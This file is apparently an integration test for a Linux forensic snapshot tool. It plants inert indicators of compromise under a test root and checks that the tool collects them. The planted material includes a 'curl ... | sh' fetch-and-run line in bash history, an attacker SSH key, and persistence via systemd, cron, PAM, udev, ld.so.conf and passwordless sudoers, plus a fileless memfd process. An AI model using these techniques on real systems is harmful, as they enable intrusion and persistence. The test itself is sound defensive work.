import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import crypto from 'node:crypto';
import fs from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { readBundle } from '../../src/evidence/bundle-reader.js';
import { integ, tmpdir } from '../helpers/cli.js';

/**
 * The first hour's artifacts, each found with a marker this test planted: accounts and
 * persistence places under a test root (--root), per-process details of children it starts,
 * a copy of a fileless (memfd) executable, interfaces, firewall.
 */

const linux = process.platform === 'linux';
const dirs: string[] = [];
const kids: ChildProcess[] = [];
afterAll(() => {
  for (const k of kids) k.kill('SIGKILL');
  for (const d of dirs) fs.rmSync(d, { recursive: true, force: true });
});

const M = `m${crypto.randomBytes(6).toString('hex')}`; // the marker
type Bundle = Awaited<ReturnType<typeof readBundle>>;
const json = (b: Bundle, name: string): any => JSON.parse(b.files.get(`artifacts/${name}.json`)!.toString());
const rawText = (b: Bundle, rel: string): string | undefined => b.files.get(rel)?.toString();

function plant(root: string): void {
  const w = (rel: string, text: string, mode = 0o644): void => {
    fs.mkdirSync(path.dirname(path.join(root, rel)), { recursive: true });
    fs.writeFileSync(path.join(root, rel), text, { mode });
  };
  w('etc/passwd', `root:x:0:0:root:/root:/bin/bash\nalice:x:1000:1000:Alice:/home/alice:/bin/bash\nmallory:x:1001:1001::/home/mallory:/bin/sh\n`);
  w('etc/group', 'root:x:0:\nalice:x:1000:\nsudo:x:27:alice\n');
  w('etc/shadow', `root:!:20000:0:99999:7:::\nalice:$6$salt$HASH${M}:20001:0:99999:7:::\nmallory::20002:0:99999:7:::\n`, 0o640);
  w('home/alice/.ssh/authorized_keys', `ssh-ed25519 AAAAC3Nza${M} attacker@evil\n`, 0o600);
  w('home/alice/.bash_history', `${'ls\n'.repeat(10)}curl http://203.0.113.9/${M} | sh\n`);
  w('home/alice/.bashrc', `export PROMPT_COMMAND='${M}'\n`);
  w('root/.ssh/authorized_keys', `ssh-rsa AAAAroot${M} root@admin\n`);
  // symlinks out of a home directory are recorded, never followed
  w('outside/secret', `OUTSIDE-${M}\n`);
  fs.symlinkSync(path.join(root, 'outside/secret'), path.join(root, 'home/alice/.zsh_history'));
  fs.mkdirSync(path.join(root, 'outside/ssh'));
  fs.writeFileSync(path.join(root, 'outside/ssh/authorized_keys'), `OUTSIDE-KEYS-${M}\n`);
  fs.mkdirSync(path.join(root, 'home/mallory'), { recursive: true });
  fs.symlinkSync(path.join(root, 'outside/ssh'), path.join(root, 'home/mallory/.ssh'));
  w('etc/systemd/system/evil.service', `[Service]\nExecStart=/tmp/${M}\n`);
  w('etc/systemd/system/evil.timer', `[Timer]\nOnCalendar=hourly\n# ${M}\n`);
  fs.mkdirSync(path.join(root, 'etc/systemd/system/multi-user.target.wants'), { recursive: true });
  fs.symlinkSync('/etc/systemd/system/evil.service', path.join(root, 'etc/systemd/system/multi-user.target.wants/evil.service'));
  w('home/alice/.config/systemd/user/user-evil.service', `[Service]\nExecStart=/bin/true ${M}\n`);
  w('etc/crontab', `* * * * * root /bin/true ${M}\n`);
  w('etc/cron.daily/evil', `#!/bin/sh\n${M}\n`, 0o755);
  // a name that is not UTF-8 must be listed with its exact bytes, not dropped
  fs.mkdirSync(path.join(root, 'etc/cron.d'), { recursive: true });
  fs.writeFileSync(Buffer.concat([Buffer.from(path.join(root, 'etc/cron.d/job')), Buffer.from([0xff])]), `* * * * * root /tmp/${M}-nonutf8\n`);
  spawnSync('mkfifo', [path.join(root, 'etc/cron.daily/fifo')]); // must be listed, never opened
  w('var/spool/cron/crontabs/alice', `@reboot /tmp/${M}\n`);
  w('var/spool/at/a00001019', `#!/bin/sh\n# atrun uid=0\n${M}\n`);
  w('etc/rc.local', `#!/bin/sh\n${M}\n`, 0o755);
  w('etc/init.d/evil', `#!/bin/sh\n${M}\n`, 0o755);
  w('etc/profile.d/evil.sh', `export X=${M}\n`);
  w('etc/bash.bashrc', `# ${M}\n`);
  w('etc/pam.d/sshd', `auth sufficient pam_evil.so ${M}\n`);
  w('lib/security/pam_evil.so', `ELF${M}`);
  w('etc/udev/rules.d/99-evil.rules', `ACTION=="add", RUN+="/tmp/${M}"\n`);
  w('etc/ld.so.conf.d/evil.conf', `/tmp/${M}\n`);
  w('etc/sudoers.d/alice', `alice ALL=(ALL) NOPASSWD: ALL # ${M}\n`, 0o440);
}

describe.runIf(linux)('integ snapshot: first-hour artifacts', () => {
  let root: string;
  let bundle: Bundle;
  let bundlePath: string;
  let child: number;
  let memfdPid: number | null = null;
  let oddPid: number;
  let deletedFile: string;
  const sleepSha = crypto
    .createHash('sha256')
    .update(fs.readFileSync(fs.realpathSync('/bin/sleep')))
    .digest('hex');

  beforeAll(async () => {
    const d = tmpdir();
    dirs.push(d);
    root = path.join(d, 'root');
    plant(root);
    // a process with a planted environment, a deleted open file and a pipe
    deletedFile = path.join(d, `gone-${M}`);
    fs.writeFileSync(deletedFile, 'x');
    // names that are not UTF-8: an open file and an executable
    fs.writeFileSync(Buffer.concat([Buffer.from(`${d}/odd`), Buffer.from([0xff])]), 'x');
    fs.copyFileSync(fs.realpathSync('/bin/sleep'), Buffer.concat([Buffer.from(`${d}/sl`), Buffer.from([0xff]), Buffer.from('p')]));
    fs.chmodSync(Buffer.concat([Buffer.from(`${d}/sl`), Buffer.from([0xff]), Buffer.from('p')]), 0o755);
    const c = spawn('bash', ['-c', 'exec 3<"$F"; rm "$F"; exec 4< <(sleep 300); exec 5<"$D"/$\'odd\\xff\'; exec sleep 300'], {
      env: { PATH: process.env.PATH ?? '/usr/bin:/bin', F: deletedFile, D: d, INTEG_TEST_MARKER: M },
      stdio: ['ignore', 'pipe', 'ignore'],
    });
    kids.push(c);
    child = c.pid!;
    const odd = spawn('bash', ['-c', 'exec "$D"/$\'sl\\xffp\' 300'], { env: { D: d }, stdio: 'ignore' });
    kids.push(odd);
    oddPid = odd.pid!;
    // a fileless process: sleep copied into a memfd and executed from it
    if (spawnSync('python3', ['-c', 'import os; os.memfd_create']).status === 0) {
      const py = spawn(
        'python3',
        [
          '-c',
          `import os\nfd=os.memfd_create("${M}")\nos.write(fd, open(os.path.realpath("/bin/sleep"),"rb").read())\nos.execv("/proc/self/fd/%d" % fd, ["sleep", "300"])`,
        ],
        { stdio: 'ignore' },
      );
      kids.push(py);
      memfdPid = py.pid!;
    } else console.log('memfd part skipped: python3 with os.memfd_create not available');
    for (let i = 0; i < 50; i++) {
      await new Promise((r) => setTimeout(r, 100));
      const ok = !fs.existsSync(deletedFile) && (memfdPid === null || (fs.readlinkSync(`/proc/${memfdPid}/exe`).startsWith('/memfd:') ?? false));
      if (ok) break;
    }
    expect(fs.existsSync(deletedFile)).toBe(false);
    const r = integ(['snapshot', '--out', path.join(d, 'ev'), '--root', root, '--format', 'json']);
    expect(r.code, r.stderr).toBe(0);
    bundlePath = (JSON.parse(r.stdout) as { bundle: string }).bundle;
    bundle = await readBundle(bundlePath);
    expect(bundle.problems).toEqual([]);
  }, 120_000);

  it('accounts: passwd/group/shadow with hashes redacted by default; homes read, symlinks out of them not followed', () => {
    const acc = json(bundle, 'accounts');
    expect(acc.shadow_hashes).toBe('redacted');
    expect(acc.accounts.find((a: any) => a.name === 'alice')).toMatchObject({ uid: 1000, home: '/home/alice', password: 'hash', hash_scheme: '$6$' });
    expect(acc.accounts.find((a: any) => a.name === 'alice').hash).toBeUndefined();
    expect(acc.empty_passwords).toEqual(['mallory']);
    expect(rawText(bundle, 'raw/fs/etc/shadow')).toContain('alice:$6$<redacted>:20001');
    expect(rawText(bundle, 'raw/fs/etc/passwd')).toContain('alice:x:1000');
    expect(rawText(bundle, 'raw/fs/etc/group')).toContain('sudo:x:27:alice');
    // neither the hash nor anything behind a symlink out of a home is anywhere in the bundle
    for (const [f, data] of bundle.files) {
      expect(data.includes(`HASH${M}`), f).toBe(false);
      expect(data.includes(`OUTSIDE-${M}`), f).toBe(false);
      expect(data.includes(`OUTSIDE-KEYS-${M}`), f).toBe(false);
    }
    const p = json(bundle, 'persistence');
    const byPath = (x: string): any => p.entries.find((e: any) => e.path === x);
    expect(byPath('/home/alice/.zsh_history')).toMatchObject({ type: 'symlink', symlink_target: path.join(root, 'outside/secret'), copy: null });
    expect(byPath('/home/mallory/.ssh')).toMatchObject({ type: 'symlink', copy: null });
    expect(acc.homes.notes.map((n: any) => n.note).join('\n')).toContain('/home/mallory/.ssh is a symlink');
  });

  it('persistence: every planted place is listed and copied, with its category', () => {
    const p = json(bundle, 'persistence');
    const want: Array<[string, string]> = [
      ['/home/alice/.ssh/authorized_keys', 'authorized_keys'],
      ['/root/.ssh/authorized_keys', 'authorized_keys'],
      ['/home/alice/.bash_history', 'shell_history'],
      ['/home/alice/.bashrc', 'shell_startup'],
      ['/etc/systemd/system/evil.service', 'systemd_unit'],
      ['/etc/systemd/system/evil.timer', 'systemd_unit'],
      ['/home/alice/.config/systemd/user/user-evil.service', 'systemd_user_unit'],
      ['/etc/crontab', 'cron'],
      ['/etc/cron.daily/evil', 'cron'],
      ['/var/spool/cron/crontabs/alice', 'cron'],
      ['/var/spool/at/a00001019', 'at'],
      ['/etc/rc.local', 'rc'],
      ['/etc/init.d/evil', 'rc'],
      ['/etc/profile.d/evil.sh', 'profile'],
      ['/etc/bash.bashrc', 'profile'],
      ['/etc/pam.d/sshd', 'pam'],
      ['/etc/udev/rules.d/99-evil.rules', 'udev'],
      ['/etc/ld.so.conf.d/evil.conf', 'ld_so_conf'],
      ['/etc/sudoers.d/alice', 'sudoers'],
    ];
    for (const [file, cat] of want) {
      const e = p.entries.find((x: any) => x.path === file);
      expect(e, file).toMatchObject({ category: cat, type: 'file' });
      expect(rawText(bundle, e.copy), file).toContain(M);
    }
    const unit = p.entries.find((x: any) => x.path === '/etc/systemd/system/evil.service');
    expect(unit.enabled_by).toEqual(['multi-user.target.wants']);
    expect(p.enabled_units).toContainEqual({ path: '/etc/systemd/system/evil.service', enabled_by: ['multi-user.target.wants'] });
    expect(p.entries.find((x: any) => x.path === '/etc/systemd/system/evil.timer').enabled_by).toBeUndefined();
    expect(p.entries.find((x: any) => x.path === '/etc/cron.daily/fifo')).toMatchObject({ type: 'fifo', copy: null });
    const odd = p.entries.find((x: any) => x.path === '/etc/cron.d/job\\xff');
    expect(odd).toMatchObject({
      category: 'cron',
      type: 'file',
      path_b64: Buffer.concat([Buffer.from('/etc/cron.d/job'), Buffer.from([0xff])]).toString('base64'),
    });
    expect(rawText(bundle, odd.copy)).toContain(`${M}-nonutf8`);
    const pam = p.entries.find((x: any) => x.path === '/lib/security/pam_evil.so');
    expect(pam).toMatchObject({ category: 'pam_module', copy: null, sha256: crypto.createHash('sha256').update(`ELF${M}`).digest('hex') });
  });

  it('processes: environment, open files marked deleted and pipe, namespace ids, cgroup', () => {
    const procs = json(bundle, 'processes').processes;
    const p = procs.find((x: any) => x.pid === child);
    expect(p.environ).toContain(`INTEG_TEST_MARKER=${M}`);
    expect(p.fds).toContainEqual({ fd: 3, target: `${deletedFile} (deleted)`, kind: 'deleted' });
    expect(p.fds.find((f: any) => f.fd === 4).kind).toBe('pipe');
    expect(p.fds.find((f: any) => f.fd === 1).kind).toBe('socket'); // node's stdio "pipe" is a socketpair
    const ns = (k: string): number => Number(/\[(\d+)\]/.exec(fs.readlinkSync(`/proc/${child}/ns/${k}`))![1]);
    for (const k of ['pid', 'mnt', 'net', 'user', 'uts', 'ipc', 'cgroup']) expect(p.namespaces[k], k).toBe(ns(k));
    expect(p.fds.find((f: any) => f.fd === 5)).toEqual({
      fd: 5,
      target: `${path.dirname(deletedFile)}/odd\\xff`,
      target_b64: Buffer.concat([Buffer.from(`${path.dirname(deletedFile)}/odd`), Buffer.from([0xff])]).toString('base64'),
      kind: 'file',
    });
    const o = procs.find((x: any) => x.pid === oddPid);
    expect(o.exe).toBe(`${path.dirname(deletedFile)}/sl\\xffp`);
    expect(Buffer.from(o.exe_b64, 'base64')).toEqual(Buffer.concat([Buffer.from(`${path.dirname(deletedFile)}/sl`), Buffer.from([0xff]), Buffer.from('p')]));
    expect(p.cgroup).toEqual(fs.readFileSync(`/proc/${child}/cgroup`, 'utf8').split('\n').filter(Boolean));
  });

  it.runIf(linux)('a running memfd executable: finding, copy with its sha256 in the manifest, maps', () => {
    if (memfdPid === null) return;
    const f = json(bundle, 'findings').findings.find((x: any) => x.kind === 'memfd_executable' && x.pid === memfdPid);
    expect(f?.exe).toContain(`/memfd:${M}`);
    const e = json(bundle, 'executables').executables.find((x: any) => x.pids.includes(memfdPid));
    expect(e.sha256).toBe(sleepSha);
    expect(crypto.createHash('sha256').update(bundle.files.get(e.copy)!).digest('hex')).toBe(sleepSha);
    const man = bundle.manifest as { artifacts: Array<{ file: string; sha256: string }> };
    expect(man.artifacts.find((a) => a.file.endsWith(e.copy))?.sha256).toBe(sleepSha);
    expect(
      json(bundle, 'maps')
        .maps.find((m: any) => m.pid === memfdPid)
        .suspicious.join('\n'),
    ).toContain(`/memfd:${M}`);
  });

  it('interfaces with IPv4 (fib_trie) and IPv6; neighbours and firewall say what needs netlink', () => {
    const ifs = json(bundle, 'interfaces').interfaces;
    const lo = ifs.find((i: any) => i.name === 'lo');
    expect(lo.ipv4).toContainEqual({ address: '127.0.0.1', prefix_len: 8 });
    if (fs.readFileSync('/proc/net/if_inet6', 'utf8').includes(' lo\n')) expect(lo.ipv6.map((a: any) => a.address)).toContain('::1');
    expect(rawText(bundle, 'raw/proc/net/fib_trie')).toContain('127.0.0.1');
    expect(json(bundle, 'neighbours').notes.join(' ')).toMatch(/IPv6 neighbours .* need netlink/);
    const fw = json(bundle, 'firewall');
    expect(fw.notes.join(' ')).toMatch(/netlink/);
    expect(fw.ip_forward).toBe(fs.readFileSync('/proc/sys/net/ipv4/ip_forward', 'utf8').trim());
  });

  it('--shadow-hashes keeps the hashes; --root that is not a directory is a clear error', () => {
    const d = tmpdir();
    dirs.push(d);
    const r = integ(['snapshot', '--out', path.join(d, 'ev'), '--root', root, '--shadow-hashes', '--format', 'json']);
    expect(r.code, r.stderr).toBe(0);
    return readBundle((JSON.parse(r.stdout) as { bundle: string }).bundle).then((b) => {
      expect(json(b, 'accounts').accounts.find((a: any) => a.name === 'alice').hash).toBe(`$6$salt$HASH${M}`);
      expect(rawText(b, 'raw/fs/etc/shadow')).toContain(`HASH${M}`);
      const bad = integ(['snapshot', '--out', path.join(d, 'ev2'), '--root', path.join(d, 'nope')]);
      expect(bad.code).toBe(66);
      expect(bad.stderr.trim()).toMatch(/^integ: --root .*nope: not a directory$/);
    });
  });
});
